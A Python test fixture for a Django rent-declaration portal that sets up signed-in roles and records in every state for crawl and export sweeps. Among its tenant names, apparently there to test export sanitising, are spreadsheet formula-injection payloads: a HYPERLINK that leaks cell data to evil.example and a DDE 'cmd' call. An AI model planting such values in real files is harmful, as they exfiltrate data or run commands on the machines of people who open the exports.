"""A small portal with someone in every role and something in every state, for the sweeps.

The sweeps (no 500 anywhere, every form, every export) request the portal as each role: an
anonymous visitor, a natural landlord, a legal landlord's administrator and its colleague, staff
of each role (and a superuser), and staff half-way through the second factor. ``World.ids`` holds
consistent sets of real ids (a portfolio with one of its tenancies...), so a crawl reaches the
views' real work, not only their 404s.
"""

import datetime
import uuid
from dataclasses import dataclass
from decimal import Decimal

from django.conf import settings
from django.contrib.sessions.backends.db import SessionStore
from django.core.files.base import ContentFile
from django.test import Client
from django_otp import DEVICE_ID_SESSION_KEY
from django_otp.plugins.otp_totp.models import TOTPDevice

from portail.accounts.backends import BACKEND
from portail.accounts.middleware import SIGNED_IN_AT
from portail.accounts.models import EmailConfirmation, User
from portail.accounts.views import AUTHENTICATED_AT
from portail.backoffice.signin import permit_enrolment
from portail.backoffice.views.authentication import PENDING
from portail.common import clock
from portail.correspondence.models import Message
from portail.obligations.models import (
    ChangeReport,
    RepaymentPlan,
    UnpaidRentReport,
    UnpaidRentRule,
)
from portail.portfolios.models import Grant
from portail.rents.models import BulkImport, JulyRent, Receipt, RentSubmission
from tests.backoffice.conftest import STAFF_PASSWORD, make_staff
from tests.backoffice.helpers import PDF
from tests.factories import (
    PASSWORD,
    GrantFactory,
    JulyRentFactory,
    LegalLandlordFactory,
    PortfolioFactory,
    TenancyFactory,
    UserFactory,
)
from tests.payments.helpers import pay

# A day the 2026 campaign is open: every rent page offers its forms.
CAMPAIGN_DAY = datetime.datetime(2026, 11, 27, 10, 30, tzinfo=datetime.UTC)
OWNERS = "_owners"
HOSTILE_TENANT = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
# A name starting with each character a spreadsheet reads as the start of a formula.
HOSTILE_NAMES = [
    HOSTILE_TENANT,
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\tTAB",
    "\rCR",
]


@dataclass
class Role:
    name: str
    user: User | None
    password: str = ""
    session_key: str = ""

    @property
    def kind(self) -> str:
        """ "visitor" (signed out, or half-way through the staff's sign-in), "landlord", "staff"."""
        if self.user is None:
            return "visitor"
        return "landlord" if self.user.landlord_id else "staff"

    def client(self) -> Client:
        """A client with this role's session (the cookie is set again before each request)."""
        client = Client()
        if self.session_key:
            client.cookies[settings.SESSION_COOKIE_NAME] = self.session_key
        return client


@dataclass
class World:
    roles: dict[str, Role]
    # Consistent sets of URL ids: {"portfolio_id": 3, "tenancy_id": 12}, {"landlord_id": ...},
    # each with the roles whose own data it is (OWNERS): for others it is someone else's.
    ids: list[dict[str, object]]

    def ids_for(self, names: set[str], role: Role) -> tuple[list[dict], list[dict]]:
        """(the role's own id sets, the others') that fill these URL arguments."""
        fitting = [i for i in self.ids if names <= set(i)]
        own = [i for i in fitting if role.name in i[OWNERS]]
        return own, [i for i in fitting if role.name not in i[OWNERS]]

    tenant_names: list[str]


def _session(role: Role, *, staff_verified: bool = False, **data) -> None:
    """A stored session as the sign-in pages leave it (with the second factor for staff)."""
    store = SessionStore()
    if role.user is not None:
        store["_auth_user_id"] = str(role.user.pk)
        store["_auth_user_backend"] = BACKEND
        store["_auth_user_hash"] = role.user.get_session_auth_hash()
        store[SIGNED_IN_AT] = clock.now().timestamp()
    if staff_verified:
        store[DEVICE_ID_SESSION_KEY] = TOTPDevice.objects.get(user=role.user).persistent_id
    store.update(data)
    store.create()
    role.session_key = store.session_key


def _portfolio_with_every_status(landlord, *, name: str, tenant_name: str = "Alice ARNAUD"):
    """A parc: a rent to declare, one declared, one waiting for a receipt, one not asked."""
    portfolio = PortfolioFactory(landlord=landlord, name=name)
    to_declare = TenancyFactory(portfolio=portfolio, tenant_name=tenant_name)
    JulyRentFactory(tenancy=to_declare, year=2025, amount="650.00")
    declared = TenancyFactory(portfolio=portfolio, tenant_name="Bruno BLANC")
    JulyRentFactory(tenancy=declared, year=2025, amount="700.00")
    TenancyFactory(portfolio=portfolio, tenant_name="Chloé CARON")  # July 2025 unknown: receipt
    TenancyFactory(
        portfolio=portfolio, tenant_name="David DURAND", start_date=datetime.date(2026, 9, 1)
    )
    return portfolio, declared


def _declare(tenancy, *, user, amount="720.00") -> RentSubmission:
    submission = RentSubmission.objects.create(
        portfolio=tenancy.portfolio,
        year=2026,
        channel=RentSubmission.Channel.ONLINE,
        token=uuid.uuid4(),
        submitted_by=user,
        submitted_at=clock.now(),
    )
    JulyRent.objects.create(
        tenancy=tenancy,
        year=2026,
        amount=Decimal(amount),
        source=JulyRent.Source.ONLINE,
        recorded_at=clock.now(),
        recorded_by=user,
        submission=submission,
        version=1,
    )
    return submission


def _bulk_import(portfolio, *, user, number: str) -> BulkImport:
    """A checked file of rents with one error and one amount to confirm."""
    bulk = BulkImport(
        portfolio=portfolio,
        year=2026,
        filename="loyers.csv",
        status=BulkImport.Status.CHECKED,
        uploaded_by=user,
        total_lines=2,
        processed_lines=2,
        errors=[[3, number, "=1+1 Ce numéro allocataire n'est pas dans ce parc."]],
        warnings=[[2, "Montant élevé : confirmez-le."]],
    )
    bulk.file.save("depot", ContentFile(b"numero;montant\n"), save=False)
    bulk.save()
    return bulk


def _obligations(tenancy, *, user):
    """An unpaid-rent report with a repayment plan sent, and a reported departure."""
    unpaid = UnpaidRentReport.objects.create(
        tenancy=tenancy,
        portfolio=tenancy.portfolio,
        first_unpaid_month=datetime.date(2026, 9, 1),
        monthly_rent="650.00",
        monthly_charges="0",
        direct_payment=False,
        amount_owed="1950.00",
        tenant_pays_part=False,
        rule=UnpaidRentRule.objects.order_by("valid_from").first(),
        threshold="1300.00",
        threshold_reached_on=datetime.date(2026, 10, 1),
        deadline=datetime.date(2026, 12, 1),
        reported_by=user,
        status=UnpaidRentReport.Status.PLAN_EXPECTED,
    )
    plan = RepaymentPlan(report=unpaid, content_type="application/pdf", uploaded_by=user)
    plan.file.save("plan", ContentFile(PDF), save=False)
    plan.save()
    change = ChangeReport.objects.create(
        tenancy=tenancy,
        portfolio=tenancy.portfolio,
        kind=ChangeReport.Kind.DEPARTURE,
        move_out_date=datetime.date(2026, 12, 31),
        reported_by=user,
        version_by=user,
    )
    return unpaid, plan, change


def build_world() -> World:
    """Every role signed in, every state present; call it inside the test's database."""
    roles: dict[str, Role] = {"anonymous": Role("anonymous", None)}
    ids: list[dict[str, object]] = []

    # A natural landlord: one parc in every state, a file of rents, mail and letters, an
    # e-mail address waiting for its code; it typed its password a moment ago.
    landlord = UserFactory(
        email="marie@example.org", full_name="Marie MARTIN", landlord__email="marie@example.org"
    )
    portfolio, declared = _portfolio_with_every_status(
        landlord.landlord, name="Mes logements", tenant_name=HOSTILE_TENANT
    )
    for name in HOSTILE_NAMES[1:]:
        TenancyFactory(portfolio=portfolio, tenant_name=name)
    submission = _declare(declared, user=landlord)
    bulk = _bulk_import(portfolio, user=landlord, number="=HYPERLINK(1)")
    now = clock.now()
    EmailConfirmation.objects.create(
        user=landlord,
        email="marie.nouvelle@example.org",
        code_hash="",
        created_at=now,
        expires_at=now + datetime.timedelta(minutes=30),
    )
    sent = [
        Message.objects.create(
            kind="notice",
            channel=channel,
            recipient=landlord,
            template="notice",
            context={"title": "Votre espace", "paragraphs": ["Bonjour."]},
            subject="Votre espace",
            email="marie@example.org" if channel == "email" else "",
            address=["Marie MARTIN", "12 rue des Lilas", "13001 Marseille"],
            status=Message.Status.SENT if channel == "email" else Message.Status.POSTED,
            sent_at=now,
            body_text="Bonjour.",
        )
        for channel in ("email", "letter")
    ]
    failed = Message.objects.create(
        kind="notice",
        channel="email",
        recipient=landlord,
        template="notice",
        context={"title": "Relance", "paragraphs": ["Bonjour."]},
        subject="Relance",
        email="marie@example.org",
        status=Message.Status.FAILED,
        last_error="550 mailbox unavailable",
    )
    roles["landlord"] = Role("landlord", landlord, PASSWORD)
    _session(roles["landlord"], **{AUTHENTICATED_AT: clock.now().timestamp()})

    # A legal landlord: its administrator, a colleague (consult one parc, declare the other)
    # and a suspended colleague.
    company = LegalLandlordFactory(email="contact@sci.example", name="SCI DES TILLEULS")
    admin = UserFactory(
        landlord=company, is_landlord_admin=True, full_name="Anne ADMIN", email="anne@sci.example"
    )
    north, _ = _portfolio_with_every_status(company, name="Nord")
    south, _ = _portfolio_with_every_status(company, name="Sud")
    colleague = UserFactory(landlord=company, full_name="Paul GESTION", email="paul@sci.example")
    GrantFactory(user=colleague, portfolio=north, right=Grant.Right.CONSULT)
    GrantFactory(user=colleague, portfolio=south, right=Grant.Right.DECLARE)
    suspended = UserFactory(landlord=company, full_name="Sam SUSPENDU", is_active=False)
    GrantFactory(user=suspended, portfolio=south, right=Grant.Right.CONSULT)
    roles["admin"] = Role("admin", admin, PASSWORD)
    _session(roles["admin"])
    roles["colleague"] = Role("colleague", colleague, PASSWORD)
    _session(roles["colleague"])

    # A receipt waiting for an agent.
    waiting = south.tenancies.get(tenant_name="Chloé CARON")
    receipt = Receipt(
        tenancy=waiting,
        year=2025,
        amount=Decimal("640.00"),
        content_type="application/pdf",
        submitted_by=admin,
    )
    receipt.file.save("quittance", ContentFile(PDF), save=False)
    receipt.save()

    # Staff in each role, a superuser, and two agents half-way through the second factor.
    for role in ("agent", "supervisor", "administrator"):
        roles[role] = Role(role, make_staff(role), STAFF_PASSWORD)
        _session(roles[role], staff_verified=True)
    superuser = User.objects.create_superuser("agent.super", STAFF_PASSWORD)
    TOTPDevice.objects.create(user=superuser, name="Téléphone", confirmed=True)
    roles["superuser"] = Role("superuser", superuser, STAFF_PASSWORD)
    _session(roles["superuser"], staff_verified=True)
    pending = make_staff("agent", "agent.code")
    roles["staff_code"] = Role("staff_code", None, STAFF_PASSWORD)
    _session(roles["staff_code"], **{PENDING: {"user": pending.pk, "at": now.timestamp()}})
    enrolling = make_staff("agent", "agent.nouveau", device=False)
    permit_enrolment(user=enrolling, granted_by=None)
    roles["staff_enrol"] = Role("staff_enrol", None, STAFF_PASSWORD)
    _session(roles["staff_enrol"], **{PENDING: {"user": enrolling.pk, "at": now.timestamp()}})

    staff = ("agent", "supervisor", "administrator", "superuser")
    parcs = [
        (portfolio, ("landlord",)),
        (north, ("admin", "colleague")),
        (south, ("admin", "colleague")),
    ]
    for parc, owners in parcs:
        for tenancy in parc.tenancies.all():
            ids.append({"portfolio_id": parc.pk, "tenancy_id": tenancy.pk, OWNERS: owners})
    ids.append(
        {"portfolio_id": portfolio.pk, "submission_id": submission.pk, OWNERS: ("landlord",)}
    )
    ids.append({"portfolio_id": portfolio.pk, "import_id": bulk.pk, OWNERS: ("landlord",)})
    unpaid, plan, change = _obligations(declared, user=landlord)
    pay(declared, "2026-10", "250.00")
    ids.append(
        {
            "portfolio_id": portfolio.pk,
            "unpaid_id": unpaid.pk,
            "plan_id": plan.pk,
            OWNERS: ("landlord",),
        }
    )
    ids.append({"portfolio_id": portfolio.pk, "change_id": change.pk, OWNERS: ("landlord",)})
    ids.append({"report_id": unpaid.pk, "plan_id": plan.pk, OWNERS: staff})
    ids.append({"report_id": change.pk, OWNERS: staff})
    for user in (landlord, admin, colleague, suspended):
        team = ("admin",) if user.landlord_id == company.pk else ()
        ids.append({"landlord_id": user.landlord_id, "user_id": user.pk, OWNERS: staff + team})
    ids.append({"receipt_id": receipt.pk, OWNERS: staff})
    ids.append({"message_id": failed.pk, OWNERS: staff + ("landlord",)})
    ids += [{"message_id": message.pk, OWNERS: ("landlord",)} for message in sent]
    return World(roles=roles, ids=ids, tenant_names=HOSTILE_NAMES)
